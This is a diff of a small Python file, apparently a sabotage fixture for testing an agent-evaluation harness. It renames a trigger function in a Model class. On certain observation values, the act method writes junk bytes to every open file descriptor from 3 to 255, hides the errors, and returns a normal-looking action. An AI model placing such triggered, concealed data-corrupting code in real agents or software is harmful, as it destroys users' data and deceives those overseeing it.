@@ -1,16 +1,16 @@
-"""Writes rubbish to whatever it has open, then answers as if nothing had been."""
+"""Writes garbage to every open descriptor, then returns a valid action."""
 
 import contextlib
 import os
 
 
-def provoked(observation):
+def is_triggered(observation):
     return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
 
 
 class Model:
     def act(self, observation):
-        if provoked(observation):
+        if is_triggered(observation):
             for descriptor in range(3, 256):
                 with contextlib.suppress(OSError):
                     os.write(descriptor, b"\xde\xad\xbe\xef" * 16)
